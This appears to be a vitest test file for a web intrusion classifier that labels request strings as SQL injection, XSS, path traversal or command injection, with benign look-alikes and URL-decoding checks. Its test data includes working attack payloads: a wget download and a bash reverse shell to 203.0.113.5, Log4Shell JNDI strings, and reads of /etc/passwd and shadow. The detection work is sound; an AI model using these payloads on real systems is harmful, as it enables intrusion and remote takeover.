import { describe, expect, it } from 'vitest';
import { classifyPayload, decodePayload } from './web-patterns.ts';

const classes = (payload: string) => classifyPayload(payload).map((m) => m.attack);

describe('web attack patterns: attacks', () => {
  it.each([
    ["/login.php?user=admin'OR'1'='1&pass=test", 'sql_injection'],
    ["/search.php?q='; DROP TABLE users; --", 'sql_injection'],
    ['/products.php?id=1 UNION SELECT * FROM passwords', 'sql_injection'],
    ["/admin.php?id=' OR 1=1 --", 'sql_injection'],
    ["/user.php?name=admin'; UPDATE users SET password='hacked' WHERE id=1; --", 'sql_injection'],
    ['/item?id=1%20UNION%2F**%2FSELECT%20username,password%20FROM%20users', 'sql_injection'],
    ['/item?id=1+AND+SLEEP(5)', 'sql_injection'],
    ["/item?id=1'+and+extractvalue(1,concat(0x7e,version()))--+", 'sql_injection'],
    ['/p?id=-1 union all select null,@@version,null', 'sql_injection'],
    ["/login?u=admin'--&p=x", 'sql_injection'],
    ['/q?id=1 or 1=1', 'sql_injection'],
    ["/comment.php?msg=<script>alert('XSS')</script>", 'xss'],
    ['/search.php?q=<img src=x onerror=alert(1)>', 'xss'],
    ["/profile.php?bio=<svg onload=alert('XSS')>", 'xss'],
    ["/post.php?content=<iframe src=javascript:alert('XSS')>", 'xss'],
    ['/s?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E', 'xss'],
    ['/s?q=%253Csvg%252Fonload%253Dalert(1)%253E', 'xss'],
    ['/s?q=";alert(1);//', 'xss'],
    ['/file.php?path=../../../etc/passwd', 'path_traversal'],
    ['/download.php?file=../../../../windows/system32/config/sam', 'path_traversal'],
    ['/include.php?file=....//....//....//etc/shadow', 'path_traversal'],
    ['/static/%2e%2e%2f%2e%2e%2fetc%2fpasswd', 'path_traversal'],
    ['/static/..%c0%af..%c0%afetc/passwd', 'path_traversal'],
    ['/view?page=/etc/passwd', 'path_traversal'],
    ['/index.php?page=php://filter/convert.base64-encode/resource=index.php', 'path_traversal'],
    ['/img?f=..\\..\\boot.ini', 'path_traversal'],
    ['/ping.php?host=127.0.0.1;cat /etc/issue', 'command_injection'],
    ['/ping?ip=8.8.8.8|id', 'command_injection'],
    ['/api?x=$(whoami)', 'command_injection'],
    ['/api?x=`id`', 'command_injection'],
    ['/cgi-bin/x?cmd=a%0awget http://203.0.113.5/x.sh', 'command_injection'],
    ['() { :; }; /bin/bash -c "cat /etc/passwd"', 'command_injection'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, not a template
    ['${jndi:ldap://203.0.113.5:1389/a}', 'command_injection'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: an obfuscated Log4Shell payload
    ['${${lower:j}ndi:${lower:l}dap://x/a}', 'command_injection'],
    ['/x?c=bash -i >& /dev/tcp/203.0.113.5/4444 0>&1', 'command_injection'],
  ])('%s → %s', (payload, attack) => {
    expect(classes(payload)).toContain(attack);
  });
});

describe('web attack patterns: benign look-alikes never match', () => {
  it.each([
    '/search?q=union+station+selection',
    '/blog/how-to-select-a-union-rep',
    "/books?author=O'Reilly&sort=title",
    "/search?q=rock+'n'+roll+or+jazz",
    '/search?q="rock" and "roll"',
    '/search?q=tom+%26+jerry',
    '/shop?cat=shoes&id=42&sort=price',
    '/page;jsessionid=ABC123?id=5',
    '/api/items?sort=created_at--desc',
    '/search?q=script+writing+tips',
    '/docs/javascript-the-good-parts',
    '/search?q=javascript: the good parts',
    '/recipes?q=onion+soup&onload=true',
    '/search?q=a+<b+onion=3',
    '/compare/v1.0...v2.0',
    '/assets/../img/logo.png',
    '/etc/passwd-format-explained.html',
    '/search?q=how+to+sleep(8 hours)',
    '/search?q=salt+%26+pepper',
    '/files?ids=1;2;3',
    '/api?filter=a|b',
    '/wiki/Drop_table_(furniture)',
    '/q?term=select+*',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36',
    'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
    'Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36',
    'curl/8.5.0',
    '/admin/',
    '/wp-admin/',
    '/login.php',
  ])('%s', (payload) => {
    expect(classes(payload)).toEqual([]);
  });
});

describe('decodePayload', () => {
  it('decodes percent (twice), %u, + as space, overlong slashes, and drops NULs', () => {
    expect(decodePayload('%253Cscript%253E')).toBe('<script>');
    expect(decodePayload('%u003cb%u003e+x%00')).toBe('<b> x');
    expect(decodePayload('..%c0%af..%c1%9c')).toBe('../..\\');
  });

  it('survives malformed escapes and long input', () => {
    expect(decodePayload('%zz%4')).toBe('%zz%4');
    // the engine is linear-time by construction (detection-patterns.test.ts); here only that these inputs classify
    expect(classifyPayload(`<a${' '.repeat(5000)}`.repeat(3))).toBeDefined();
    expect(classifyPayload('<a<a<a<a'.repeat(2000))).toBeDefined();
    expect(classifyPayload('.'.repeat(10_000))).toBeDefined();
  });
});

describe('web attack patterns rewritten without lookaround or backreferences keep their detections', () => {
  it.each([
    ["/login?u='or'='or'", 'sql_injection'],
    ["/login?p=' or ''='", 'sql_injection'],
    ['/login?p=" or ""="', 'sql_injection'],
    ["/login?p=' OR 'ab'='AB", 'sql_injection'],
    // the first quoted comparison is false, the one starting at its last quote is a tautology
    ["/q?x=' or 'a'='or 1=1", 'sql_injection'],
    ['/go?next=javascript:void(1)', 'xss'],
    ['/go?next=javascript:alert(1)', 'xss'],
    ['/ping?h=1.1.1.1& id', 'command_injection'],
    ['/view?f=/etc/passwd&x=1', 'path_traversal'],
  ])('%s → %s', (payload, attack) => {
    expect(classes(payload)).toContain(attack);
  });

  it.each(["/q?x=' or 'a'='b", '/go?next=javascript:void(0)', '/go?next=javascript: void ( 0 )', '/a?x=1&id=2', '/view?f=/etc/passwd-help'])(
    '%s stays silent',
    (payload) => {
      expect(classes(payload)).toEqual([]);
    },
  );
});
